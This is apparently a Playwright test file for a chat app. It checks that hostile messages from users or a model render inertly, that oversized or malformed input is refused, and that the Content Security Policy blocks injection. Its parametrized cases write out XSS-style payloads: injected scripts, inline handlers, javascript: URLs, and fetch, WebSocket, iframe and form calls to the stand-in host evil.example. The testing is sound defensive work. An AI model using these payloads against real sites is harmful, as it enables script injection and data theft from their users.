"""Hostile messages of people and of a model are inert on the page: nothing runs, is loaded, or breaks."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Route, expect

from tests.e2e.hostile import HOSTILE, MOST
from tests.e2e.visitor import Visitor
from tests.fakes.ollama import FakeOllama, OllamaBehaviour
from tests.people import Person, new_key
from tests.running_server import RunningServer

Visit = Callable[[RunningServer, str], Visitor]
FREEZE_MS = 4_000  # on a busy machine; what these messages guard against takes much longer
EACH = 15  # messages between two ordinary ones
NOTE_SLOW = """
    window.slow = 0;
    const note = ({ duration }) => { window.slow = Math.max(window.slow, duration); };
    new PerformanceObserver((list) => list.getEntries().forEach(note)).observe({ type: "longtask" });
"""
LOOK = Path(__file__).with_name("inert.js").read_text()
BOX = """(seq) => {
    const row = document.querySelector(`[data-testid=message][data-seq="${seq}"]`);
    const { x, width, height } = row?.getBoundingClientRect() ?? {};
    return width && [x, width, height];
}"""  # looked up and measured in one breath: the list may draw a row anew at any time


class Watch:
    """Notes what a page must never do, and how long it stood still for which message."""

    def __init__(self, visitor: Visitor, width: int) -> None:
        self.visitor, self.page = visitor, visitor.page
        self.wrong: list[str] = []
        self.slow: dict[str, float] = {}
        self._ordinary: list[float] = []
        self.page.set_viewport_size({"width": width, "height": 800})
        self.page.add_init_script(NOTE_SLOW)
        self.visitor.context.route("**/*", self._request)
        self.page.on("dialog", lambda dialog: (self.wrong.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        self.page.on("websocket", lambda socket: self._url(socket.url.replace("ws:", "http:")))
        self.visitor.context.on("page", lambda page: self.wrong.append(f"a window: {page.url}"))

    def _request(self, route: Route) -> None:
        self._url(route.request.url)
        route.continue_()

    def _url(self, url: str) -> None:
        if not url.startswith(self.visitor.server.url):
            self.wrong.append(f"request: {url}")

    def see(self, seq: int) -> None:
        """The page follows the room to its newest message, whatever that is."""
        expect(self.visitor.get("message", seq=str(seq), status="sent")).to_be_visible()
        expect(self.visitor.get("jump-to-latest")).to_have_count(0)

    def look(self, name: str) -> None:
        seen: dict[str, Any] = self.page.evaluate(LOOK)
        self.slow[name] = max(self.slow.get(name, 0.0), seen["slow"])
        self.wrong += [f"{name}: {what}" for what in seen["found"]]

    def looks_ordinary(self, seq: int, name: str) -> None:
        """The message that follows stands where such a message always stands, in its form."""
        row = self.visitor.get("message", seq=str(seq))
        expect(row.locator("strong")).to_have_text("ordinary")
        box: list[float] = self.page.wait_for_function(BOX, arg=seq).json_value()
        self._ordinary = self._ordinary or box
        if box != self._ordinary:
            self.wrong.append(f"after {name}: an ordinary message is drawn as {box}, before as {self._ordinary}")

    def slowest(self) -> list[tuple[str, float]]:
        return sorted(self.slow.items(), key=lambda item: -item[1])[:5]


def _post(person: Person, content: str) -> dict[str, Any]:
    answer = person.post("/api/chat/message", room="general", content=content, client_id=new_key())
    assert answer.status_code == 201, answer.text
    message: dict[str, Any] = answer.json()["message"]
    return message


def _walk(watch: Watch, person: Person, say: Callable[[int, str], int]) -> None:
    """Each message in turn; every few, an ordinary one of a person who has said nothing since."""
    watch.page.evaluate("document.fonts.ready.then(() => 0)")
    other = Person(person.url, f"calm-{new_key()[:6]}").register()
    for number, (name, text) in enumerate(HOSTILE):
        seq = say(number, text)
        watch.see(seq)
        watch.look(name)
        if number % EACH == 0:
            watch.looks_ordinary(_post(other, "an **ordinary** message")["seq"], name)
    watch.page.wait_for_timeout(500)
    watch.look("the last one")
    print("slowest:", watch.slowest())
    assert watch.wrong == [], "\n".join(watch.wrong)
    assert watch.slowest()[0][1] < FREEZE_MS, watch.slowest()
    assert watch.page.title().endswith("Roundtable")


def test_messages_of_people_are_inert(visit: Visit, ollama_server: RunningServer) -> None:
    watch = Watch(visit(ollama_server, "reader"), 1280)
    watch.visitor.sign_up().open_room()
    troll = Person(ollama_server.url, "troll").register()
    _walk(watch, troll, lambda _, text: int(_post(troll, text)["seq"]))


def test_messages_of_a_model_are_inert_on_a_small_phone(
    visit: Visit, ollama_server: RunningServer, ollama: FakeOllama
) -> None:
    ollama.loaded.add("llama3:latest")
    watch = Watch(visit(ollama_server, "phone"), 320)
    watch.visitor.sign_up()
    expect(watch.visitor.get("composer")).to_be_visible()
    asker = Person(ollama_server.url, "asker").register()
    text_of = lambda asked: HOSTILE[int(re.findall(r"number (\d+)", asked)[-1])][1]  # noqa: E731  one use
    ollama.behaviour = OllamaBehaviour(text=text_of)
    _walk(watch, asker, lambda number, _: int(_post(asker, f"@llama3 say number {number}")["seq"]) + 1)


@pytest.mark.parametrize(
    ("content", "status", "words"),
    [
        ("x" * 1_000_000, 413, "the most is 16,000"),
        ("x" * (MOST + 1), 413, "16,001 characters; the most is 16,000"),
        ("\x00\x01\x02", 400, "Write something first"),
        ("half \ud83d", 400, "low surrogate"),
    ],
)
def test_what_is_not_taken_is_refused_in_words(
    ollama_server: RunningServer, content: str, status: int, words: str
) -> None:
    person = Person(ollama_server.url, f"p-{new_key()[:8]}").register()
    answer = person.post("/api/chat/message", room="general", content=content, client_id=new_key())
    assert (answer.status_code, words in answer.json()["error"]["message"]) == (status, True), answer.text


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        ("add('script', { textContent: 'window.pwned=1' })", "script-src-elem"),
        ("add('b', {}).outerHTML = '<b id=b onclick=window.pwned=1>x</b>'; b.click()", "script-src-attr"),
        ("setTimeout(() => { try { new Function('window.pwned=1')() } catch {} })", "script-src"),
        ("add('script', { src: `${evil}/x.js` })", "script-src-elem"),
        ("add('img', { src: `${evil}/x.png` })", "img-src"),
        ("fetch(evil).catch(() => 0)", "connect-src"),
        ("try { new WebSocket('wss://evil.example/') } catch {}", "connect-src"),
        ("add('iframe', { src: evil })", "frame-src"),
        ("add('base', { href: evil })", "base-uri"),
        ("add('link', { rel: 'stylesheet', href: `${evil}/x.css` })", "style-src-elem"),
        ("add('form', { action: evil }).submit()", "form-action"),
        ("location.href = 'javascript:window.pwned=1'", "script-src-elem"),
    ],
)
def test_the_policy_of_the_page_blocks_what_would_get_through(
    visit: Visit, ollama_server: RunningServer, attempt: str, directive: str
) -> None:
    """A second line: even a script of ours gone wrong runs no foreign code and calls nobody."""
    visitor = visit(ollama_server, "nobody")
    page = visitor.page
    page.goto("/")
    expect(visitor.get("auth-form")).to_be_visible()
    blocked = page.evaluate(
        f"""() => new Promise((resolve) => {{
            document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
            const evil = "https://evil.example";
            const add = (name, how) => document.body.appendChild(Object.assign(document.createElement(name), how));
            {attempt}
        }})"""
    )
    assert blocked == directive
    assert page.evaluate("window.pwned") is None
    visitor.problems.clear()  # Chromium tells of what it has blocked as an error
